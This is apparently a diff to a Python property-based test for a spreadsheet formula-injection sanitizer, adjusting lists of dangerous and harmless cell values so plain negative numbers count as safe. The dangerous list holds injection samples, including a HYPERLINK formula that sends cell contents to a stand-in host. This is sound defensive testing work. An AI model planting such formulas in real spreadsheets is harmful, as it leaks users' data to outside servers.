@@ -35,16 +35,32 @@ DANGEROUS: Final = [
     "\x00=1",
     "=\x00",
     '=HYPERLINK("http://example.org?"&A1,"a")',
-    "-5",
+    "-3-5",
+    "-5 ",
 ]
-HARMLESS: Final = ["", "a.png", "1-1", "a=b", "407", "12 / 7", "'=1", "#N/A", "ä, ö.png", 'a "b"', "a;b", "1e5"]
+HARMLESS: Final = [
+    "",
+    "a.png",
+    "1-1",
+    "a=b",
+    "407",
+    "12 / 7",
+    "'=1",
+    "#N/A",
+    "ä, ö.png",
+    'a "b"',
+    "a;b",
+    "1e5",
+    "-5",
+    "-8,06",
+]
 
 TEXTS: Final = st.text(st.sampled_from("=+-@＝＋－＠ \t\r\n;,|'\"a1\x00\u200b\ufeff\u00a0\ud800")) | st.text()
 
 
 def is_dangerous(cell: str) -> bool:
     """Return whether OWASP's list calls a cell dangerous; written apart from the code under test."""
-    return cell[:1] in {"\t", "\r", "\n"} or has_sign(cell)
+    return cell[:1] in {"\t", "\r", "\n"} or (has_sign(cell) and not re.fullmatch(r"-[0-9]+([.,][0-9]+)?", cell))
 
 
 def has_sign(cell: str) -> bool:
